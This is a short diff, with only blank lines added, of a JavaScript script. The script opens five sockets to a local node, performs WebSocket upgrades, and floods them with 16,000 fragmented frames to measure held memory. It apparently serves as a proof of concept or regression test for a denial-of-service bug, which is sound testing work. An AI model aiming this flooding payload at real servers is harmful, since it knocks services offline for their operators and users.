@@ -15,6 +15,7 @@ const [address] = node.getMultiaddrs()
 const port = Number(address.getComponents().find(({ name }) => name === 'tcp')?.value)
 const sockets = Array.from({ length: 5 }, () => connect(port, '127.0.0.1'))
 const before = process.memoryUsage().arrayBuffers
+
 for (const socket of sockets) {
   socket.on('error', () => {})
   socket.write('GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n')
@@ -22,6 +23,7 @@ for (const socket of sockets) {
     socket.write(Buffer.concat([Buffer.from('02810000000041', 'hex'), ...Array.from({ length: 16_000 }, () => FRAGMENT)]))
   })
 }
+
 await new Promise(resolve => setTimeout(resolve, 3_000))
 const open = sockets.filter(({ destroyed }) => !destroyed).length
 const held = (process.memoryUsage().arrayBuffers - before) / 5 / 16_000
